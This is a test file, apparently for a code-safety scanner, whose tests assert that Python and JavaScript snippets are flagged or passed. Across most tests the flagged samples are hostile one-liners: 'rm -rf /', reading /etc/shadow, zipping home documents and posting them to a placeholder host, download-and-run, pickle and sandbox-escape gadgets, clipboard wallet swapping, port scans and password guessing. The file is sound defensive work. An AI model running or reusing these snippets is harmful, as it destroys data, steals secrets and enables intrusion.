//! Functions and files that go by other names, and what gives them away.

mod judging;

use judging::{all_safe, is_unsafe};

#[test]
fn objects_that_run_something_when_unpickled_are_found() {
    let runs = "deserialize";
    for callee in [
        "eval, ('1',)",
        "exec, (code,)",
        "os.system, ('echo',)",
        "importlib.import_module, ('os',)",
    ] {
        let code = format!(
            "import importlib, os\nclass P:\n    def __reduce__(self):\n        return ({callee})\n"
        );
        is_unsafe("python", &code, runs);
    }
    all_safe(
        "python",
        &[
            "class P:\n    def __reduce__(self):\n        return (P, (self.name,))\n",
            "import collections\nclass P:\n    def __reduce__(self):\n        return (collections.Counter, ([1],))\n",
        ],
    );
}

#[test]
fn members_that_run_commands_are_found() {
    let name = "obfuscated-name";
    is_unsafe(
        "python",
        "import os\nclass M(type):\n    __getitem__ = os.system\n",
        name,
    );
    is_unsafe("python", "class A: pass\nA.__add__ = exec\n", name);
    is_unsafe(
        "python",
        "def f(): pass\nf.__code__ = compile('import shutil; shutil.rmtree(\"/\")', '', 'exec')\n",
        "code-dynamic",
    );
    all_safe(
        "python",
        &["class M(type):\n    __getitem__ = list.__getitem__\n    __len__ = len\n"],
    );
}

#[test]
fn modules_by_other_ways_are_found() {
    let name = "obfuscated-name";
    is_unsafe("python", "__loader__.load_module('os').system('id')", name);
    is_unsafe(
        "python",
        "print.__self__.__import__('os').popen('id')",
        "exec-process",
    );
    is_unsafe(
        "python",
        "import pkgutil\npkgutil.resolve_name('os:system')('id')",
        name,
    );
    is_unsafe(
        "python",
        "import posix\nposix.system('rm -rf /')",
        "destroy-files",
    );
    is_unsafe(
        "python",
        "import _io\n_io.FileIO('/etc/shadow').read()",
        "credential-read",
    );
    is_unsafe(
        "python",
        "setattr(__builtins__, 'size', eval)\nsize(input())",
        "code-dynamic",
    );
    is_unsafe("python", "import os\ngetattr(os, pick())('id')", name);
    is_unsafe("python", "reached.system('rm -rf /')\n", "destroy-files");
    is_unsafe(
        "python",
        "for rung in ('__class__', '__base__', '__subclasses__'):\n    thing = getattr(thing, rung)\n",
        "sandbox-gadget",
    );
    is_unsafe(
        "javascript",
        "const { ['ex' + 'ec']: run } = require('child_process'); run('rm -rf /');",
        "destroy-files",
    );
    is_unsafe(
        "javascript",
        "const cp = require('child_process'); cp[names.find((n) => n.length > 4)]('id');",
        name,
    );
    all_safe(
        "python",
        &[
            "import platform\nprint(platform.system())",
            "import os\nprint(getattr(os, flag))",
            "loader.load_module('settings').start()",
            "if name in ('__class__', '__dict__'):\n    raise AttributeError(name)\n",
        ],
    );
    all_safe(
        "javascript",
        &["const { ['na' + 'me']: n } = options; print(n);"],
    );
}

#[test]
fn what_stays_or_hides_by_its_name_is_found() {
    is_unsafe(
        "python",
        "import os\nos.execv('/proc/self/exe', ['[kworker/0:1]', 'x'])",
        "process-tamper",
    );
    is_unsafe(
        "python",
        "import setproctitle\nsetproctitle.setproctitle('[kthreadd]')",
        "process-tamper",
    );
    is_unsafe(
        "python",
        "from pyarmor_runtime_000000 import __pyarmor__\n",
        "obfuscated-text",
    );
    all_safe(
        "python",
        &[
            "import setproctitle\nsetproctitle.setproctitle('worker: idle')",
            "reg.SetValueEx(key, 'Colour', 0, reg.REG_SZ, 'red')",
        ],
    );
    all_safe(
        "javascript",
        &["await api.request('PUT /contents', { path: 'docs/x.md', content });"],
    );
}

#[test]
fn what_goes_out_by_a_detour_is_found() {
    let sends = "exfiltration";
    is_unsafe(
        "python",
        "import io, os, requests, zipfile\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\n\
         z.write(os.path.expanduser('~/Documents/a.txt'))\nrequests.post('https://h.example', data=b.getvalue())\n",
        sends,
    );
    is_unsafe(
        "python",
        "from aiogram.types import FSInputFile\nbot.send_document(1, FSInputFile('/home/al/notes.txt'))\n",
        sends,
    );
    is_unsafe(
        "javascript",
        "const z = new AdmZip(); z.addLocalFolder(require('os').homedir() + '/Documents');\
         require('axios').post('https://h.example', z.toBuffer());",
        sends,
    );
    all_safe(
        "javascript",
        &[
            "const z = new AdmZip(); z.addLocalFolder('dist'); post('https://h.example', z.toBuffer());",
            "document.querySelector('form').action = '/search';",
            "puppeteer.launch({ userDataDir: './profile' });",
        ],
    );
}

#[test]
fn one_after_the_other_is_found() {
    let survey = "system-survey";
    is_unsafe(
        "javascript",
        "const net = require('net'); for (let p = 1; p < 1024; p++) net.connect(p, 'db.example');",
        survey,
    );
    is_unsafe(
        "python",
        "for word in wordlist:\n    if pam.authenticate('root', word):\n        print(word)\n",
        survey,
    );
    is_unsafe(
        "python",
        "import nmap\nnmap.PortScanner().scan('10.0.0.0/24')",
        survey,
    );
    all_safe(
        "javascript",
        &[
            "const net = require('net'); for (let i = 0; i < 3; i++) net.connect(80, 'localhost');",
            "let sum = 0; for (let i = 0; i < 10; i++) { sum += list[i]; }",
        ],
    );
    all_safe("python", &["for word in words:\n    print(word.upper())\n"]);
}

#[test]
fn code_that_others_wrote_is_found() {
    is_unsafe(
        "python",
        "import runpy, urllib.request\nf, _ = urllib.request.urlretrieve('https://h.example/a')\nrunpy.run_path(f)\n",
        "download-run",
    );
    is_unsafe(
        "python",
        "import openai, os\nr = openai.chat.completions.create(model='m', messages=m)\nos.system(r.choices[0].message.content)\n",
        "download-run",
    );
    is_unsafe(
        "python",
        "import os\n@bot.command()\nasync def run(ctx, *, c):\n    await ctx.send(os.popen(c).read())\n",
        "exec-shell",
    );
    is_unsafe(
        "python",
        "import webbrowser\nwebbrowser.get(\"sh -c 'rm -rf /' %s\").open('x')\n",
        "destroy-files",
    );
    is_unsafe(
        "python",
        "import pyperclip\npyperclip.copy('0x52908400098527886E0F7030069857D2E4169EE7')\n",
        "surveillance",
    );
    all_safe(
        "python",
        &[
            "import webbrowser\nwebbrowser.get('firefox').open('https://example.com')\n",
            "import openai\nr = openai.chat.completions.create(model='m', messages=m)\nprint(r)\n",
            "import pyperclip\npyperclip.copy('correct horse battery staple')\n",
        ],
    );
}

#[test]
fn what_an_object_is_told_to_run_is_found() {
    is_unsafe(
        "javascript",
        "const { NodeSSH } = require('node-ssh'); new NodeSSH().execCommand('rm -rf /');",
        "destroy-files",
    );
    is_unsafe(
        "javascript",
        "await s3.send(new DeleteBucketCommand({ Bucket: 'prod' }));",
        "destroy-data",
    );
    is_unsafe(
        "javascript",
        "require(name(1))[name(2)]('id');",
        "obfuscated-name",
    );
    is_unsafe(
        "python",
        "df.query(\"@x.__class__ or __import__('os').system('id')\")",
        "sandbox-gadget",
    );
    is_unsafe(
        "python",
        "simplify(\"__import__('subprocess').run(['id'])\")",
        "sandbox-gadget",
    );
    is_unsafe("python", "solve.__globals__['os']", "sandbox-gadget");
    all_safe(
        "javascript",
        &[
            "await s3.send(new ListObjectsV2Command({ Bucket: 'prod' }));",
            "require('./names')[name(2)]('id');",
            "document.execCommand('copy');",
        ],
    );
    all_safe(
        "python",
        &[
            "df.query('price > 10')",
            "simplify('x ** 2 + x')",
            "print(\"__import__('os') is not allowed here\")",
            "import os\nos.environ['LD_LIBRARY_PATH'] = 'build/lib'\n",
        ],
    );
}
